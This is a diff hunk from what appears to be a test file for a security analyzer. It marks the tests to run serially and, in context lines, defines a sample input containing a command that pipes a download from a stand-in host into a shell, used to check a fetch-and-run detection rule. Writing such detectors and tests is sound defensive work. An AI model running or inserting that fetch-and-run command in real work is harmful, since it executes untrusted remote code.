@@ -21,6 +21,9 @@ import redteam_kit as kit
 from analyzer.engine import program
 from analyzer.model import Decision
 
+# Asserts on wall time (its time budgets and limits): `make test` runs it alone, after the parallel run.
+pytestmark = pytest.mark.serial
+
 FETCH_AND_RUN = "remote-code.fetch-and-run-command"
 TRAIN = 'from m0 import *\n\n\ndef main():\n    run("curl http://x.example/a | sh")\n\n\nmain()\n'
 
